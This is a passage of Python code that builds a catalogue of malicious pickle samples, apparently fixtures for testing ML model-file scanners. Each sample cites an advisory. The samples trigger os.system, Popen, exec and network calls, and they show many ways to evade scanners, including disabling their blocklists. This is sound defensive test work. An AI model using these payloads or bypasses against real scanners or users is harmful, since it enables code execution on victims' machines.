            PS_ADV + "GHSA-9726-w42j-3qjr",
            "_io.FileIO opens arbitrary files, bypassing builtins.open rules.",
            severity="high",
        ),
        g(
            "urllib_urlopen",
            "urllib.request",
            "urlopen",
            ("https://example.invalid/x",),
            PS_ADV + "GHSA-9726-w42j-3qjr",
            "Network access / SSRF.",
            severity="high",
        ),
        g(
            "logging_filehandler",
            "logging",
            "FileHandler",
            ("/tmp/pwned.log",),
            PS_ADV + "GHSA-m7j5-r2p5-c39r",
            "Creates arbitrary files.",
            severity="high",
        ),
        g(
            "socket_create_connection",
            "socket",
            "create_connection",
            (("example.invalid", 80),),
            PS_TESTS + "data/malicious7.pkl",
            "Opens a network connection.",
            severity="high",
        ),
        g(
            "requests_get",
            "requests.api",
            "get",
            ("https://example.invalid/",),
            PS_TESTS + "data/malicious4.pickle",
            "HTTP request via requests.",
            severity="high",
        ),
        g(
            "webbrowser_open",
            "webbrowser",
            "open",
            ("https://example.invalid/",),
            PICKLESCAN + "/blob/main/src/picklescan/scanner.py",
            "Launches a browser/process.",
            severity="high",
        ),
        g(
            "shutil_rmtree",
            "shutil",
            "rmtree",
            ("/tmp/victim",),
            "https://github.com/mmaitre314/picklescan/pull/29",
            "Destructive file operation.",
            severity="high",
        ),
        g(
            "smtplib_smtp",
            "smtplib",
            "SMTP",
            ("127.0.0.1", 25),
            FICKLING_ADV + "GHSA-mxhj-88fx-4pcv",
            "Outbound network connection from a constructor.",
            severity="high",
        ),
        g(
            "multiprocessing_spawnv_passfds",
            "multiprocessing.util",
            "spawnv_passfds",
            ("/bin/sh", ["/bin/sh", "-c", CMD], []),
            FICKLING_ADV + "GHSA-q5qq-mvfm-j35x",
            "multiprocessing.util.spawnv_passfds forks/execs a program.",
        ),
        g(
            "marshal_loads",
            "marshal",
            "loads",
            (b"\xe3\x00\x00\x00\x00opaque-code-object",),
            FICKLING_ADV + "GHSA-565g-hwwr-4pp3",
            "marshal.loads builds a code object (placeholder bytes; never executed here).",
        ),
        g(
            "dill_create_code",
            "dill._dill",
            "_create_code",
            (0, 0, 0, 0, 1, 67, b"d\x00S\x00"),
            "https://github.com/uqfoundation/dill/blob/master/dill/_dill.py",
            "dill helper that constructs a CodeType (placeholder args).",
        ),
        g(
            "dill_load_type",
            "dill._dill",
            "_load_type",
            ("CodeType",),
            "https://github.com/uqfoundation/dill/blob/master/dill/_dill.py",
            "dill._load_type('CodeType') hands out types.CodeType without naming it.",
            severity="high",
        ),
        g(
            "cloudpickle_subimport",
            "cloudpickle.cloudpickle",
            "subimport",
            ("os",),
            PS_ADV + "GHSA-9m3x-qqw2-h32h",
            "cloudpickle.subimport imports any module by name.",
        ),
        g(
            "types_codetype",
            "types",
            "CodeType",
            (0, 0, 0, 0, 1, 67, b"d\x00S\x00"),
            PS_ADV + "GHSA-9m3x-qqw2-h32h",
            "Direct types.CodeType construction (placeholder args).",
        ),
    ]


def _nested_pickle_samples() -> list[Sample]:
    inner = _os_system_p4()
    b64 = base64.b64encode(inner).decode()
    via_b64 = (
        PickleBuilder()
        .proto(4)
        .stack_import("pickle", "loads")
        .stack_import("base64", "b64decode")
        .str_(b64)
        .tuple1()
        .reduce()
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    legacy = legacy_torch_file(inner)
    return [
        Sample(
            "nested_pickle_loads",
            call_pickle("pickle", "loads", inner),
            "pickle.loads of an embedded malicious pickle (BINBYTES argument).",
            "https://github.com/protectai/modelscan/issues/267",
            "pickle.loads",
            "critical",
        ),
        Sample(
            "nested_c_pickle_loads",
            call_pickle("_pickle", "loads", inner),
            "_pickle.loads (C accelerator name) of an embedded pickle.",
            "https://github.com/protectai/modelscan/pull/270",
            "_pickle.loads",
            "critical",
        ),
        Sample(
            "nested_pickle_base64",
            via_b64,
            "pickle.loads(base64.b64decode('...')): payload only visible after decoding.",
            "https://github.com/promptfoo/modelaudit (nested_pickle_base64 fixture)",
            "pickle.loads",
            "critical",
        ),
        Sample(
            "lib2to3_grammar_loads",
            call_pickle("lib2to3.pgen2.grammar", "Grammar.loads", {}, inner),
            "lib2to3 Grammar.loads unpickles its bytes argument.",
            PS_ADV + "GHSA-f54q-57x4-jg88",
            "lib2to3.pgen2.grammar.Grammar.loads",
            "critical",
        ),
        Sample(
            "torch_load_from_bytes",
            call_pickle("torch.storage", "_load_from_bytes", legacy),
            "torch.storage._load_from_bytes -> torch.load(weights_only=False) on embedded "
            "legacy checkpoint bytes whose main pickle calls os.system.",
            MLWARD + " (torch/storage.py _load_from_bytes)",
            "torch.storage._load_from_bytes",
            "critical",
        ),
        Sample(
            "torch_decoder_basichandlers",
            call_pickle(
                "torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", inner
            ),
            "datapipes decoder.basichandlers('pickle', data) unpickles data.",
            PS_ADV + "GHSA-h3qp-7fh3-f8h4",
            "torch.utils.data.datapipes.utils.decoder.basichandlers",
            "critical",
        ),
    ]


def _indirection_samples() -> list[Sample]:
    # operator.attrgetter('system')(__import__('os'))('id')  (picklescan malicious12)
    attrgetter = (
        PickleBuilder()
        .proto(4)
        .stack_import("operator", "attrgetter")
        .str_("system")
        .tuple1()
        .reduce()
        .memoize()
        .stack_import("builtins", "__import__")
        .str_("os")
        .tuple1()
        .reduce()
        .memoize()
        .tuple1()
        .reduce()
        .memoize()
        .str_(CMD)
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    # _operator.methodcaller('system', 'id')(__import__('os'))  (GHSA-955r-x9j8-7rhh)
    methodcaller = (
        PickleBuilder()
        .proto(2)
        .global_("_operator", "methodcaller")
        .str_("system")
        .str_(CMD)
        .tuple2()
        .reduce()
        .global_("builtins", "__import__")
        .str_("os")
        .tuple1()
        .reduce()
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    # operator.methodcaller('system','id')(pydoc.locate('os'))  (GHSA-84r2-jw7c-4r5q)
    pydoc_locate = (
        PickleBuilder()
        .proto(4)
        .stack_import("operator", "methodcaller")
        .str_("system")
        .str_(CMD)
        .tuple2()
        .reduce()
        .stack_import("pydoc", "locate")
        .str_("os")
        .tuple1()
        .reduce()
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    # builtins.getattr(builtins.__import__('os'), 'system')('id')  (fickling GHSA-h4rm-mm56-xf63)
    getattr_import = (
        PickleBuilder()
        .proto(2)
        .global_("builtins", "getattr")
        .global_("builtins", "__import__")
        .str_("os")
        .tuple1()
        .reduce()
        .str_("system")
        .tuple2()
        .reduce()
        .str_(CMD)
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    # getattr(importlib.import_module('os'), 'system')('id')  (fickling GHSA-q5qq-mvfm-j35x)
    importlib_chain = (
        PickleBuilder()
        .proto(4)
        .stack_import("builtins", "getattr")
        .stack_import("importlib", "import_module")
        .str_("os")
        .tuple1()
        .reduce()
        .str_("system")
        .tuple2()
        .reduce()
        .str_(CMD)
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    # pkgutil.resolve_name('os:system')('id')  (GHSA-vvpj-8cmc-gx39, universal bypass)
    resolve_name = (
        PickleBuilder()
        .proto(4)
        .stack_import("pkgutil", "resolve_name")
        .str_("os:system")
        .tuple1()
        .reduce()
        .str_(CMD)
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    # functools.partial(torch.serialization.load, 'other.bin')()  (picklescan malicious19)
    partial = (
        PickleBuilder()
        .proto(4)
        .stack_import("functools", "partial")
        .stack_import("torch.serialization", "load")
        .str_("some_other_model.bin")
        .tuple2()
        .reduce()
        .memoize()
        .empty_tuple()
        .reduce()
        .stop()
        .getvalue()
    )
    # copyreg._reconstructor(subprocess.Popen, subprocess.Popen, ['id']):
    #   base.__new__(cls, state); base.__init__(obj, state)  -> spawns a process
    reconstructor = (
        PickleBuilder()
        .proto(2)
        .global_("copyreg", "_reconstructor")
        .global_("subprocess", "Popen")
        .binput(0)
        .binget(0)
        .empty_list()
        .str_(CMD)
        .append()
        .tuple3()
        .reduce()
        .stop()
        .getvalue()
    )
    # cloudpickle chain: subimport('os') then getattr(…,'system')('id')
    cloudpickle_chain = (
        PickleBuilder()
        .proto(4)
        .stack_import("builtins", "getattr")
        .stack_import("cloudpickle.cloudpickle", "subimport")
        .str_("os")
        .tuple1()
        .reduce()
        .str_("system")
        .tuple2()
        .reduce()
        .str_(CMD)
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    # types.FunctionType(marshal.loads(b'...'), {})()  (fickling GHSA-565g-hwwr-4pp3)
    marshal_function = (
        PickleBuilder()
        .proto(4)
        .stack_import("types", "FunctionType")
        .stack_import("marshal", "loads")
        .bytes_(b"\xe3opaque-code-object")
        .tuple1()
        .reduce()
        .empty_dict()
        .tuple2()
        .reduce()
        .empty_tuple()
        .reduce()
        .stop()
        .getvalue()
    )
    return [
        Sample(
            "operator_attrgetter_import",
            attrgetter,
            "operator.attrgetter('system')(builtins.__import__('os'))('id').",
            PS_TESTS + "data/malicious12.pkl",
            "operator.attrgetter",
            "critical",
        ),
        Sample(
            "operator_methodcaller_import",
            methodcaller,
            "_operator.methodcaller('system','id')(__import__('os')) (protocol 2 GLOBALs).",
            PS_ADV + "GHSA-955r-x9j8-7rhh",
            "_operator.methodcaller",
            "critical",
        ),
        Sample(
            "pydoc_locate_methodcaller",
            pydoc_locate,
            "operator.methodcaller('system','id')(pydoc.locate('os')).",
            PS_ADV + "GHSA-84r2-jw7c-4r5q",
            "pydoc.locate",
            "critical",
        ),
        Sample(
            "getattr_builtins_import",
            getattr_import,
            "getattr(__import__('os'), 'system')('id'): target never appears as a global.",
            FICKLING_ADV + "GHSA-h4rm-mm56-xf63",
            "builtins.getattr",
            "critical",
        ),
        Sample(
            "importlib_import_module_chain",
            importlib_chain,
            "getattr(importlib.import_module('os'), 'system')('id').",
            FICKLING_ADV + "GHSA-q5qq-mvfm-j35x",
            "importlib.import_module",
            "critical",
        ),
        Sample(
            "pkgutil_resolve_name",
            resolve_name,
            "pkgutil.resolve_name('os:system')('id'): universal blocklist bypass.",
            PS_ADV + "GHSA-vvpj-8cmc-gx39",
            "pkgutil.resolve_name",
            "critical",
        ),
        Sample(
            "functools_partial_torch_load",
            partial,
            "functools.partial(torch.serialization.load, 'other.bin')(): loads a second, "
            "unscanned file.",
            PS_TESTS + "data/malicious19.pkl",
            "torch.serialization.load",
            "critical",
        ),
        Sample(
            "copyreg_reconstructor_popen",
            reconstructor,
            "copyreg._reconstructor(Popen, Popen, ['id']) calls Popen.__init__: a process "
            "spawn through an allow-listed-looking helper.",
            MLWARD,
            "subprocess.Popen",
            "critical",
        ),
        Sample(
            "cloudpickle_subimport_chain",
            cloudpickle_chain,
            "getattr(cloudpickle.subimport('os'), 'system')('id').",
            PS_ADV + "GHSA-9m3x-qqw2-h32h",
            "cloudpickle.cloudpickle.subimport",
            "critical",
        ),
        Sample(
            "marshal_functiontype",
            marshal_function,
            "types.FunctionType(marshal.loads(code_bytes), {})().",
            FICKLING_ADV + "GHSA-565g-hwwr-4pp3",
            "marshal.loads",
            "critical",
        ),
    ]


def _opcode_variant_samples() -> list[Sample]:
    # Protocol 0: posix.system via GLOBAL text opcode (how pickle.dumps(os.system, 0) looks on
    # Linux).  picklescan malicious2_v0.
    posix_p0 = call_pickle("posix", "system", CMD, protocol=0)
    # Python-2 names are mapped for protocol < 3: __builtin__ -> builtins, httplib -> http.client.
    builtin_exec_inst = b"(S'" + PY_PAYLOAD.encode() + b"'\ni__builtin__\nexec\n."
    httplib_p0 = call_pickle("httplib", "HTTPSConnection", "example.invalid", protocol=0)
    sour = (
        PickleBuilder()
        .global_("__builtin__", "globals")
        .mark()
        .tuple_()
        .reduce()
        .put(100)
        .pop()
        .global_("__builtin__", "compile")
        .mark()
        .string(b"'import os; os.system(\"id\")'")
        .string(b"''")
        .string(b"'exec'")
        .tuple_()
        .reduce()
        .put(101)
        .pop()
        .global_("__builtin__", "eval")
        .mark()
        .get(101)
        .get(100)
        .tuple_()
        .reduce()
        .stop()
        .getvalue()
    )
    # INST with an argument list: subprocess.Popen(['id'])
    inst_popen = (
        PickleBuilder()
        .mark()
        .empty_list()
        .unicode(CMD)
        .append()
        .inst("subprocess", "Popen")
        .stop()
        .getvalue()
    )
    # OBJ: MARK cls args OBJ -> cls(*args); result discarded with POP so AST-based tools that
    # only keep "used" values lose the call (fickling GHSA-mxhj-88fx-4pcv).
    obj_pop = (
        PickleBuilder()
        .proto(4)
        .mark()
        .stack_import("os", "system")
        .str_(CMD)
        .obj()
        .pop()
        .none()
        .stop()
        .getvalue()
    )
    # NEWOBJ_EX: cls.__new__(cls, *args, **kwargs).  __new__ of Popen does not spawn, but the
    # import of a dangerous class must still be reported.
    newobj_ex = (
        PickleBuilder()
        .proto(4)
        .stack_import("subprocess", "Popen")
        .empty_list()
        .str_(CMD)
        .append()
        .tuple1()
        .empty_dict()
        .newobj_ex()
        .stop()
        .getvalue()
    )
    # BUILD-based call: plant __setstate__ = os.system on an instance dict, then BUILD again
    # so that the unpickler calls inst.__setstate__(state) == os.system('id').
    build_setstate = (
        PickleBuilder()
        .proto(4)
        .stack_import("argparse", "Namespace")
        .empty_tuple()
        .newobj()
        .memoize()
        .empty_dict()
        .str_("__setstate__")
        .stack_import("os", "system")
        .setitem()
        .build()
        .str_(CMD)
        .build()
        .stop()
        .getvalue()
    )
    ext1 = PickleBuilder().proto(2).ext1(0x42).str_(CMD).tuple1().reduce().stop().getvalue()
    ext4 = PickleBuilder().proto(2).ext4(0x7FFFFFF0).str_(CMD).tuple1().reduce().stop().getvalue()
    return [
        Sample(
            "posix_system_p0",
            posix_p0,
            "Protocol-0 GLOBAL 'posix system' (os alias).",
            PS_TESTS + "data/malicious2_v0.pkl",
            "posix.system",
            "critical",
        ),
        Sample(
            "inst_builtin_exec_p0",
            builtin_exec_inst,
            "INST '__builtin__ exec' with a STRING argument; no REDUCE opcode at all.",
            PS_TESTS + "data/malicious10.pkl",
            "builtins.exec",
            "critical",
        ),
        Sample(
            "httplib_p0_name_mapping",
            httplib_p0,
            "Protocol-0 'httplib HTTPSConnection' is mapped to http.client by the unpickler.",
            PS_TESTS + "data/malicious3.pkl",
            "http.client.HTTPSConnection",
            "high",
        ),
        Sample(
            "sour_pickles_globals_compile_eval",
            sour,
            "Classic 2011 chain: globals(), compile(src,'','exec'), eval(code, globals).",
            SOUR_PICKLES,
            "builtins.eval",
            "critical",
        ),
        Sample(
            "inst_subprocess_popen",
            inst_popen,
            "INST 'subprocess Popen' with an argv list.",
            MLWARD,
            "subprocess.Popen",
            "critical",
        ),
        Sample(
            "obj_call_then_pop",
            obj_pop,
            "OBJ call whose result is POPped.",
            FICKLING_ADV + "GHSA-mxhj-88fx-4pcv",
            "os.system",
            "critical",
        ),
        Sample(
            "newobj_ex_popen",
            newobj_ex,
            "NEWOBJ_EX on subprocess.Popen.",
            MLWARD,
            "subprocess.Popen",
            "high",
        ),
        Sample(
            "build_setstate_hijack",
            build_setstate,
            "BUILD installs __setstate__=os.system in an instance dict; a second BUILD "
            "calls it. No REDUCE is used to invoke the dangerous callable.",
            MLWARD,
            "os.system",
            "critical",
        ),
        Sample(
            "ext1_unregistered",
            ext1,
            "EXT1 0x42: callable comes from copyreg's extension registry, statically unknowable.",
            "https://docs.python.org/3/library/copyreg.html",
            "extension-code",
            "high",
        ),
        Sample(
            "ext4_unregistered",
            ext4,
            "EXT4 with a large code, then REDUCE.",
            "https://docs.python.org/3/library/copyreg.html",
            "extension-code",
            "high",
        ),
    ]


def _memo_and_name_samples() -> list[Sample]:
    # picklescan issue #22 (imaginaryctf 'Safe Pickle'): strings memoized with PUT, POPped,
    # fetched later with GET in a different order.
    ctf = b"".join(
        [
            b"Vos\n",
            b"p2\n",
            POP,
            b"Vsystem\n",
            b"p3\n",
            POP,
            b"Vtorch\n",
            b"p0\n",
            POP,
            b"VLongStorage\n",
            b"p1\n",
            POP,
            b"g2\n",
            b"g3\n",
            STACK_GLOBAL,
            MARK,
            b"Vid\n",
            TUPLE,
            REDUCE,
            STOP,
        ]
    )
    # memo slot overwritten: slot 0 first holds 'torch', later 'os'.
    overwrite = (
        PickleBuilder()
        .proto(4)
        .str_("torch")
        .binput(0)
        .pop()
        .str_("system")
        .binput(1)
        .pop()
        .str_("os")
        .binput(0)
        .pop()
        .binget(0)
        .binget(1)
        .stack_global()
        .str_(CMD)
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    # MEMOIZE uses len(memo) as key: after BINPUT 1, the next MEMOIZE writes key 1 again.
    memoize_len = (
        PickleBuilder()
        .proto(4)
        .str_("torch")
        .binput(1)
        .pop()  # memo = {1: 'torch'}            len 1
        .str_("os")
        .memoize()
        .pop()  # MEMOIZE -> key 1, memo = {1: 'os'} len 1
        .str_("LongStorage")
        .binput(0)
        .pop()  # memo = {0: 'LongStorage', 1: 'os'} len 2
        .str_("system")
        .memoize()
        .pop()  # MEMOIZE -> key 2
        .binget(1)
        .binget(2)
        .stack_global()
        .str_(CMD)
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    keyerror = b"".join(
        [
            PROTO,
            b"\x04",
            GLOBAL,
            b"os\nsystem\n",
            UNICODE,
            b"id\n",
            TUPLE1,
            REDUCE,
            POP,
            SHORT_BINUNICODE,
            b"\x02os",
            MEMOIZE,
            BINGET,
            b"\x03",
            BINGET,
            b"\x00",
            STACK_GLOBAL,
            BININT1,
            b"\x42",
            STOP,
        ]
    )
    type_confusion = b"".join(
        [
            PROTO,
            b"\x04",
            GLOBAL,
            b"os\nsystem\n",
            UNICODE,
            b"id\n",
            TUPLE1,
            REDUCE,
            POP,
            BININT,
            b"\x2a\x00\x00\x00",
            MEMOIZE,
            SHORT_BINUNICODE,
            b"\x02os",
            MEMOIZE,
            BINGET,
            b"\x00",
            BINGET,
            b"\x01",
            STACK_GLOBAL,
            BININT1,
            b"\x42",
            STOP,
        ]
    )
    string_stack_global = b"S'os'\nS'system'\n" + STACK_GLOBAL + b"S'id'\n" + TUPLE1 + REDUCE + STOP
    escaped_unicode = (
        PickleBuilder()
        .unicode_escaped(b"\\u006f\\u0073")  # 'os'
        .unicode_escaped(b"\\u0073ystem")  # 'system'
        .stack_global()
        .mark()
        .unicode(CMD)
        .tuple_()
        .reduce()
        .stop()
        .getvalue()
    )
    escaped_string = (
        PickleBuilder()
        .string(b"'\\x6f\\x73'")
        .string(b"'sys\\x74em'")
        .stack_global()
        .mark()
        .string(b"'id'")
        .tuple_()
        .reduce()
        .stop()
        .getvalue()
    )
    dotted_pathlib = call_pickle("pathlib", "os.system", CMD)
    dotted_torch = call_pickle("torch.serialization", "os.system", CMD)
    dotted_builtins_dict_get = (
        PickleBuilder()
        .proto(4)
        .global_("builtins", "dict.get")
        .global_("numpy", "__builtins__")
        .str_("exec")
        .tuple2()
        .reduce()
        .str_(PY_PAYLOAD)
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    computed = (
        PickleBuilder()
        .proto(4)
        .stack_import("_codecs", "decode")
        .str_("bf")
        .str_("rot13")
        .tuple2()
        .reduce()
        .memoize()
        .stack_import("_codecs", "decode")
        .str_("flfgrz")
        .str_("rot13")
        .tuple2()
        .reduce()
        .memoize()
        .stack_global()
        .str_(CMD)
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    # modelscan #85: BUILD plants strings as attributes of an allowed function object,
    # GLOBAL reads them back, STACK_GLOBAL combines them.
    planted = b"".join(
        [
            PROTO,
            b"\x04",
            GLOBAL,
            b"numpy\nprod\n",
            NONE,
            MARK,
            b"Va\n",
            b"Vos\n",
            DICT,
            TUPLE2,
            BUILD,
            NONE,
            MARK,
            b"Vb\n",
            b"Vsystem\n",
            DICT,
            TUPLE2,
            BUILD,
            POP,
            GLOBAL,
            b"numpy\nprod.a\n",
            b"p0\n",
            GLOBAL,
            b"numpy\nprod.b\n",
            b"p1\n",
            POP,
            POP,
            b"g0\n",
            b"g1\n",
            STACK_GLOBAL,
            b"Vid\n",
            TUPLE1,
            REDUCE,
            STOP,
        ]
    )
    # picklescan sys_module_override_sploit.pkl: BUILD on a *module* object overwrites
    # torch._utils._rebuild_tensor with strings, which are then used as STACK_GLOBAL args.
    module_override = (
        PickleBuilder()
        .proto(4)
        .unicode("torch._utils")
        .memoize()
        .unicode("_rebuild_tensor")
        .memoize()
        .stack_global()
        .memoize()
        .pop()
        .unicode("torch")
        .unicode("_utils")
        .stack_global()
        .memoize()
        .pop()
        .binget(3)
        .empty_dict()
        .binget(1)
        .unicode("builtins")
        .setitem()
        .build()
        .pop()
        .binget(0)
        .binget(1)
        .stack_global()
        .binget(3)
        .empty_dict()
        .binget(1)
        .unicode("eval")
        .setitem()
        .build()
        .pop()
        .binget(0)
        .binget(1)
        .stack_global()
        .stack_global()
        .unicode(PY_PAYLOAD)
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    return [
        Sample(
            "memo_put_get_reordered",
            ctf,
            "Strings stored with PUT, popped, fetched with GET out of order; decoy "
            "'torch LongStorage' strings (imaginaryctf Safe Pickle).",
            "https://github.com/mmaitre314/picklescan/issues/22",
            "os.system",
            "critical",
        ),
        Sample(
            "memo_slot_overwrite",
            overwrite,
            "BINPUT 0 first holds 'torch', then is overwritten with 'os' before BINGET.",
            MLWARD,
            "os.system",
            "critical",
        ),
        Sample(
            "memoize_len_semantics",
            memoize_len,
            "MEMOIZE keys are len(memo), not a MEMOIZE counter: after BINPUT 1 the next "
            "MEMOIZE overwrites key 1.",
            MLWARD,
            "os.system",
            "critical",
        ),
        Sample(
            "memo_keyerror_after_payload",
            keyerror,
            "os.system runs first; a BINGET of a missing memo key then aborts the load.",
            PICKLESCAN + "/pull/52",
            "os.system",
            "critical",
            shape="clean",
        ),
        Sample(
            "memo_type_confusion",
            type_confusion,
            "STACK_GLOBAL fed with an int from the memo after the payload already ran.",
            PICKLESCAN + "/pull/52",
            "os.system",
            "critical",
        ),
        Sample(
            "string_opcode_stack_global",
            string_stack_global,
            "STACK_GLOBAL args from protocol-0 STRING opcodes, no PROTO header.",
            PS_ADV + "GHSA-9gvj-pp9x-gcfr",
            "os.system",
            "critical",
        ),
        Sample(
            "unicode_escape_names",
            escaped_unicode,
            "UNICODE args spelled with \\uXXXX escapes: byte-grep scanners miss 'os'.",
            MLWARD,
            "os.system",
            "critical",
        ),
        Sample(
            "string_escape_names",
            escaped_string,
            "STRING args spelled with \\xNN escapes ('\\x6f\\x73' == 'os').",
            MLWARD,
            "os.system",
            "critical",
        ),
        Sample(
            "dotted_name_pathlib_os_system",
            dotted_pathlib,
            "STACK_GLOBAL 'pathlib' 'os.system': dotted name walks through a module that "
            "imported os.",
            FICKLING_ADV + "GHSA-5j3x-jp52-966f",
            "pathlib.os.system",
            "critical",
        ),
        Sample(
            "dotted_name_torch_os_system",
            dotted_torch,
            "Allow-listed-looking torch prefix: 'torch.serialization' 'os.system'.",
            FICKLING_ADV + "GHSA-5j3x-jp52-966f",
            "torch.serialization.os.system",
            "critical",
        ),
        Sample(
            "numpy_builtins_dict_get",
            dotted_builtins_dict_get,
            "builtins 'dict.get'(numpy.__builtins__, 'exec')(src): dunder attribute and "
            "dotted builtin name.",
            MODELSCAN_ISSUES + "89",
            "numpy.__builtins__",
            "critical",
        ),
        Sample(
            "computed_stack_global_args",
            computed,
            "STACK_GLOBAL args are results of _codecs.decode('bf','rot13') etc.; the "
            "imported name is not a constant.",
            "https://github.com/protectai/modelscan/issues/331",
            "unresolvable-import",
            "high",
        ),
        Sample(
            "build_planted_global_strings",
            planted,
            "BUILD sets numpy.prod.a='os', .b='system'; GLOBAL 'numpy prod.a' reads them; "
            "STACK_GLOBAL imports os.system.",
            MODELSCAN_ISSUES + "85",
            "unresolvable-import",
            "high",
        ),
        Sample(
            "module_attribute_override",
            module_override,
            "BUILD on the torch._utils module replaces _rebuild_tensor with strings that "
            "become STACK_GLOBAL arguments ('builtins', 'eval').",
            PS_TESTS + "data/sys_module_override_sploit.pkl",
            "unresolvable-import",
            "high",
        ),
    ]


def _stream_shape_samples() -> list[Sample]:
    payload_body = PickleBuilder().stack_import("os", "system").str_(CMD).tuple1().reduce()
    # nullifAI: payload at the start, then the stream is broken (invalid opcode).
    broken_after = PickleBuilder().proto(4).raw(payload_body.getvalue()).raw(b"\xff\xfe").stop()
    truncated = PickleBuilder().proto(4).raw(payload_body.getvalue())  # no STOP
    # broken_model.pkl from picklescan: GLOBAL exec + args then a BINUNICODE with a bogus
    # length (the load raises after exec already ran).
    picklescan_broken = (
        b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX."
    )
    concatenated = pickle.dumps(["a", "b", "c"], 4) + _os_system_p4()
    trailing_junk = _os_system_p4() + b"\n\n\t\t"
    # FRAME lies: C unpickler only requires that frame_len bytes are *available*, it does not
    # enforce the frame boundary; pickletools ignores frames entirely.
    body = PickleBuilder().stack_import("os", "system").str_(CMD).tuple1().reduce().stop()
    frame_small = PickleBuilder().proto(4).frame(2).raw(body.getvalue()).getvalue()
    frame_zero = PickleBuilder().proto(4).frame(0).raw(body.getvalue()).getvalue()
    frame_split = (
        PickleBuilder()
        .proto(4)
        .frame(3)
        .str_("os")
        .frame(1)
        .str_("system")
        .stack_global()
        .str_(CMD)
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    proto_lie = (
        PickleBuilder()
        .proto(2)
        .stack_import("os", "system")
        .str_(CMD)
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    return [
        Sample(
            "nullifai_payload_then_invalid_opcode",
            broken_after.getvalue(),
            "Payload first, then an invalid opcode: load raises after os.system ran.",
            NULLIFAI,
            "os.system",
            "critical",
            shape="broken",
        ),
        Sample(
            "payload_then_truncated",
            truncated.getvalue(),
            "Stream ends without STOP after the REDUCE.",
            NULLIFAI,
            "os.system",
            "critical",
            shape="broken",
        ),
        Sample(
            "picklescan_broken_model",
            picklescan_broken,
            "builtins.exec REDUCE followed by a BINUNICODE with a bogus length.",
            PS_TESTS + "data/broken_model.pkl",
            "builtins.exec",
            "critical",
            shape="broken",
        ),
        Sample(
            "concatenated_second_pickle",
            concatenated,
            "Benign pickle followed by a malicious one (legacy torch/joblib read both).",
            PS_TESTS + "data/malicious6.pkl",
            "os.system",
            "high",
            shape="multi",
        ),
        Sample(
            "trailing_whitespace_after_stop",
            trailing_junk,
            "Valid malicious pickle followed by non-pickle bytes.",
            PS_TESTS + "data/malicious-invalid-bytes.pkl",
            "os.system",
            "critical",
            shape="trailing",
        ),
        Sample(
            "frame_length_too_small",
            frame_small,
            "FRAME declares 2 bytes but the opcodes continue past it.",
            MLWARD + " (CPython _pickle.c load_frame)",
            "os.system",
            "critical",
        ),
        Sample(
            "frame_length_zero",
            frame_zero,
            "FRAME of length 0 before the payload.",
            MLWARD + " (CPython _pickle.c load_frame)",
            "os.system",
            "critical",
        ),
        Sample(
            "frame_split_names",
            frame_split,
            "Two FRAMEs splitting the STACK_GLOBAL strings and call.",
            MLWARD,
            "os.system",
            "critical",
        ),
        Sample(
            "stack_global_under_proto2",
            proto_lie,
            "PROTO 2 header but protocol-4 opcodes (unpickler does not check).",
            MLWARD,
            "os.system",
            "critical",
        ),
    ]


def _bomb_samples() -> list[Sample]:
    # Each level is a list holding the previous level twice (memo references).  Loading is
    # cheap (a DAG), but any tool that expands memo references into a tree (AST builders,
    # naive JSON/repr conversion) does 2**depth work.
    depth = 40
    b = PickleBuilder().proto(4).str_("lol").memoize()  # memo 0
    for level in range(depth):
        b.empty_list().mark().binget(level).binget(level).appends().memoize()  # memo level+1
    doubling = b.stop().getvalue()
    # DUP-based: a list containing itself via DUP/APPEND repeated - wide fan-out of one
    # object, plus self-reference (cycle) that trips recursive walkers.
    d = PickleBuilder().proto(4).empty_list().memoize()
    for _ in range(2000):
        d.dup().binget(0).append().pop()
    dup_cycle = d.stop().getvalue()
    return [
        Sample(
            "memo_billion_laughs",
            doubling,
            f"{depth} levels of lists each referencing the previous level twice "
            "(2**40 leaves if expanded).",
            "https://en.wikipedia.org/wiki/Billion_laughs_attack",
            "expansion",
            "high",
        ),
        Sample(
            "dup_self_reference_fanout",
            dup_cycle,
            "A list that appends itself 2000 times via DUP/BINGET: cyclic graph.",
            MLWARD,
            "expansion",
            "high",
        ),
    ]


def _scanner_tamper_samples() -> list[Sample]:
    # dict.clear(picklescan.scanner._unsafe_globals): if the scanner runs in-process with the
    # loader, its blocklist is emptied.
    picklescan_clear = (
        PickleBuilder()
        .proto(4)
        .stack_import("builtins", "dict.clear")
        .stack_import("picklescan.scanner", "_unsafe_globals")
        .tuple1()
        .reduce()
        .stop()
        .getvalue()
    )
    fickling_remove = call_pickle("fickling.hook", "remove_hook")
    return [
        Sample(
            "picklescan_blocklist_clear",
            picklescan_clear,
            "Imports picklescan.scanner._unsafe_globals and clears it.",
            MLWARD,
            "scanner-tamper",
            "high",
        ),
        Sample(
            "fickling_remove_hook",
            fickling_remove,
            "Calls fickling.hook.remove_hook() to disable fickling's load-time hook.",
            "https://github.com/trailofbits/fickling/blob/master/fickling/hook.py",
            "scanner-tamper",
            "high",
        ),
    ]


def _container_samples() -> list[Sample]:
    inner = _os_system_p4()
    inner_p0 = call_pickle("posix", "system", CMD, protocol=0)

    def z(
        sid: str,
        data: bytes,
        desc: str,
        source: str,
        payload: bytes = inner,
        expect: str = "os.system",
    ) -> Sample:
        return Sample(
            sid,
            data,
            desc,
            source,
            expect,
            "critical",
            kind="torch-zip",
            shape="container",
            inner=payload,
        )

    magic_eval = call_pickle("builtins", "eval", "0x1950A86A20F9469CFC6C", protocol=2)
    return [
        z(
            "zip_plain",
            zip_checkpoint(inner),
            "Plain torch zip with malicious data.pkl.",
